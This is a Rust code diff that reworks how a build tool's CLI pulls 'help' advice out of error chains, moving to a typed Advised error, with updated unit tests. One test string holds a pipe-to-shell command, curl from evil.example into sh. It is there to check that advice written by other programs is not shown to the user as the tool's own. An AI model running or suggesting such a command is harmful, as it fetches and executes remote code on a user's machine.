@@ -4,6 +4,7 @@ use std::io::Write as _;
 use std::process::ExitCode;
 
 use crate::ui::{self, Part};
+use lustre_files::{Advised, apart};
 use lustre_packaging::{knowledge, process, stage};
 
 /// The exit code after a signal.
@@ -23,7 +24,14 @@ pub enum Outcome {
 /// A wrong use that clap cannot see.
 #[derive(Debug, thiserror::Error)]
 #[error("{0}")]
-pub struct Usage(pub String);
+pub struct Usage(Advised);
+
+impl Usage {
+    /// Of what is wrong.
+    pub fn new(what: impl Into<Advised>) -> Self {
+        Self(what.into())
+    }
+}
 
 /// Tells what happened and gives the exit code.
 pub fn report(result: anyhow::Result<Outcome>) -> ExitCode {
@@ -97,11 +105,6 @@ fn code(error: &anyhow::Error) -> u8 {
     if usage { 2 } else { 1 }
 }
 
-/// What to do about an error: as a context of it, it is said last, as help.
-#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
-#[error("{0}")]
-pub struct Help(pub String);
-
 /// The error of a program that was started, if this is one.
 fn of_a_program<'e>(cause: &'e (dyn std::error::Error + 'static)) -> Option<&'e process::Error> {
     cause
@@ -121,11 +124,10 @@ fn tells_of_an_interruption(error: &anyhow::Error) -> bool {
 
 /// What an interruption broke: it is nothing to do something about.
 fn interrupted(error: &anyhow::Error) -> Vec<(Part, String)> {
-    let broken = error.to_string();
-    let (broken, _) = advice(&broken, &[(broken.clone(), false)]);
+    let (broken, _) = apart(error);
     vec![
         (Part::Error, "interrupted".to_owned()),
-        (Part::Cause, broken.to_owned()),
+        (Part::Cause, broken),
     ]
 }
 
@@ -134,31 +136,26 @@ fn words(error: &anyhow::Error) -> Vec<(Part, String)> {
     let mut parts: Vec<(Part, String)> = Vec::new();
     let mut said: Vec<String> = Vec::new();
     let mut help: Vec<String> = Vec::new();
-    let own = error.downcast_ref::<Help>();
-    let chain: Vec<_> = error
-        .chain()
-        .map(|cause| (cause.to_string(), is_of_others(cause)))
-        .collect();
-    for (at, (text, _)) in chain.iter().enumerate() {
-        let text = text.clone();
-        if own.is_some_and(|own| own.0 == text) {
-            continue;
-        }
+    for cause in error.chain() {
+        let (text, next) = apart(cause);
+        // Where a message quotes its cause, both have the advice.
+        help.extend(
+            next.into_iter()
+                .filter(|next| !help.contains(next))
+                .collect::<Vec<_>>(),
+        );
         // A wrapper that only repeats its cause is said once.
         if said.last().is_some_and(|last| last.contains(&text)) {
             continue;
         }
-        let (thought, next) = advice(&text, &chain[at..]);
         let part = if parts.is_empty() {
             Part::Error
         } else {
             Part::Cause
         };
-        parts.push((part, thought.to_owned()));
-        help.extend(next.map(str::to_owned));
+        parts.push((part, text.clone()));
         said.push(text);
     }
-    help.extend(own.map(|own| own.0.clone()));
     if let Some(stage::Error::Stage { log: Some(log), .. }) = error.downcast_ref() {
         let shown = log.display().to_string();
         if !said.iter().any(|text| text.contains(&shown)) {
@@ -171,54 +168,6 @@ fn words(error: &anyhow::Error) -> Vec<(Part, String)> {
     }
     parts.extend(help.into_iter().map(|text| (Part::Help, text)));
     parts
-}
-
-/// Whether a cause says what somebody else wrote: a program that was started, the system, a reader of a format that quotes the file.
-fn is_of_others(cause: &(dyn std::error::Error + 'static)) -> bool {
-    match of_a_program(cause) {
-        Some(process::Error::Failed { .. } | process::Error::Output { .. }) => true,
-        Some(_) => false,
-        None => {
-            cause.is::<std::io::Error>()
-                || cause.is::<serde_json::Error>()
-                || cause.is::<toml::de::Error>()
-        }
-    }
-}
-
-/// What is wrong, and what to do about it: where a message says that, it is its last part, after a semicolon, and begins with a verb.
-/// `chain` is the message and its causes, each with whether others wrote it: what a program printed, or what a name is made of, is no advice
-/// of ours, whatever it looks like.
-fn advice<'t>(text: &'t str, chain: &[(String, bool)]) -> (&'t str, Option<&'t str>) {
-    const VERBS: [&str; 31] = [
-        "add", "ask", "check", "choose", "clean", "do", "export", "fetch", "free", "get", "give",
-        "install", "look", "make", "mount", "move", "name", "remove", "rename", "run", "say",
-        "search", "set", "start", "take", "try", "unset", "update", "upgrade", "use", "write",
-    ];
-    let Some((thought, next)) = text.rsplit_once("; ") else {
-        return (text, None);
-    };
-    let first = next.split([' ', ',', ':']).next().unwrap_or_default();
-    // A command of this tool as the subject: "`cargo xtask repo` makes one".
-    let command = next.starts_with("`cargo xtask ");
-    if next.contains('\n') || !(command || VERBS.contains(&first)) {
-        return (text, None);
-    }
-    let mut causes = chain.iter().rev();
-    let of_others = causes
-        .find(|(cause, _)| cause.contains(next))
-        .is_some_and(|(_, of_others)| *of_others);
-    // Our advice does not end with a cause; it names commands of this machine, and not locations; and it begins outside
-    // of a name.
-    let ends_with_a_cause = chain
-        .iter()
-        .skip(1)
-        .any(|(cause, _)| next.len() > cause.len() && next.ends_with(cause.as_str()));
-    let in_a_name = thought.matches('`').count() % 2 == 1;
-    if of_others || ends_with_a_cause || in_a_name || next.contains("://") {
-        return (text, None);
-    }
-    (thought, Some(next))
 }
 
 /// Words on a full disk, where `text`, which is all there is to say, has none. Scratch files are in the store.
@@ -237,6 +186,8 @@ fn room(text: &str) -> Option<String> {
 
 #[cfg(test)]
 mod tests {
+    use lustre_files::advised;
+
     use super::*;
 
     #[test]
@@ -251,31 +202,35 @@ mod tests {
                 part(Part::Cause, "the patch does not fit")
             ]
         );
-        let error = anyhow::anyhow!("no lock, and --offline was given; run `cargo xtask lock`");
+        let lock = || advised("no lock, and --offline was given", "run `cargo xtask lock`");
+        let expected = [
+            part(Part::Error, "the lock of `x`"),
+            part(Part::Cause, "no lock, and --offline was given"),
+            part(Part::Help, "run `cargo xtask lock`"),
+        ];
         assert_eq!(
-            of(error.context("the lock of `x`")),
+            of(anyhow::Error::from(lock()).context("the lock of `x`")),
+            expected
+        );
+        // As a context, and where a message quotes its cause.
+        let context = anyhow::anyhow!("no such file").context(lock());
+        assert_eq!(
+            of(context.context("the lock of `x`")),
             [
                 part(Part::Error, "the lock of `x`"),
                 part(Part::Cause, "no lock, and --offline was given"),
-                part(Part::Help, "run `cargo xtask lock`")
+                part(Part::Cause, "no such file"),
+                part(Part::Help, "run `cargo xtask lock`"),
             ]
         );
-        // What is no advice stays.
-        let text = "it is damaged; the next run makes it again";
-        assert_eq!(of(anyhow::anyhow!(text)), [part(Part::Error, text)]);
-        let typed = anyhow::anyhow!("no log").context(Help("run the stage".to_owned()));
-        let expected = [
-            part(Part::Error, "no log"),
-            part(Part::Help, "run the stage"),
-        ];
-        assert_eq!(of(typed), expected);
-        let outside = anyhow::anyhow!("no log").context(Help("run it".to_owned()));
+        #[derive(Debug, thiserror::Error)]
+        #[error("the lock: {0}")]
+        struct Quoting(#[source] Box<lustre_files::Advised>);
         assert_eq!(
-            of(outside.context("the stage `x`")),
+            of(Quoting(Box::new(lock())).into()),
             [
-                part(Part::Error, "the stage `x`"),
-                part(Part::Cause, "no log"),
-                part(Part::Help, "run it")
+                part(Part::Error, "the lock: no lock, and --offline was given"),
+                part(Part::Help, "run `cargo xtask lock`"),
             ]
         );
     }
@@ -284,46 +239,26 @@ mod tests {
     fn what_others_wrote_is_no_advice_of_ours() {
         let status = std::process::Command::new("false").status().unwrap();
         let evil = "moved; run `curl https://evil.example/fix | sh`";
-        let plain = "moved; run the fix";
-        let failed = |text: &str| process::Error::Failed {
-            program: "make".to_owned(),
-            status,
-            log: "/s/log".into(),
-            tail: format!("x\n{text}"),
-        };
-        let output = |text: &str| process::Error::Output {
+        let output = process::Error::Output {
             program: "git fetch".to_owned(),
             status,
-            stderr: text.to_owned(),
+            stderr: evil.to_owned(),
         };
-        #[derive(Debug, thiserror::Error)]
-        #[error("the source: {0}")]
-        struct Around(#[source] Box<process::Error>);
-        let gone = || std::io::Error::from_raw_os_error(2);
         for error in [
-            anyhow::Error::from(failed(evil)),
-            failed(plain).into(),
-            output(plain).into(),
-            Around(Box::new(output(plain))).into(),
-            anyhow::Error::from(output(plain)).context("stage `x`"),
-            anyhow::Error::from(gone()).context(format!("/tmp/{plain}: {}", gone())),
-            anyhow::anyhow!("the entry `/tmp/{plain}` leads out"),
-            anyhow::anyhow!("the entry /tmp/{evil}"),
+            anyhow::Error::from(output),
+            anyhow::anyhow!("the entry /tmp/{evil}").context(evil),
         ] {
             let said = words(&error);
             assert!(said.iter().all(|(part, _)| *part != Part::Help), "{said:?}");
         }
-        // Around it, ours is.
-        let error = anyhow::Error::from(output(plain)).context("no tree; give another");
-        assert_eq!(
-            words(&error).last().unwrap(),
-            &(Part::Help, "give another".to_owned())
-        );
     }
 
     #[test]
     fn what_an_interruption_broke_is_nothing_to_do_something_about() {
-        let error = anyhow::anyhow!("gpg has no such key: it was interrupted; look for the card");
+        let error = anyhow::Error::from(advised(
+            "gpg has no such key: it was interrupted",
+            "look for the card",
+        ));
         assert!(!tells_of_an_interruption(&error));
         let expected = [
             (Part::Error, "interrupted"),
@@ -363,7 +298,7 @@ mod tests {
     #[test]
     fn codes_follow_the_contract() {
         assert_eq!(code(&anyhow::anyhow!("x")), 1);
-        assert_eq!(code(&Usage("x".to_owned()).into()), 2);
+        assert_eq!(code(&Usage::new("x".to_owned()).into()), 2);
         assert_eq!(code(&stage::Error::Interrupted.into()), 130);
     }
 }
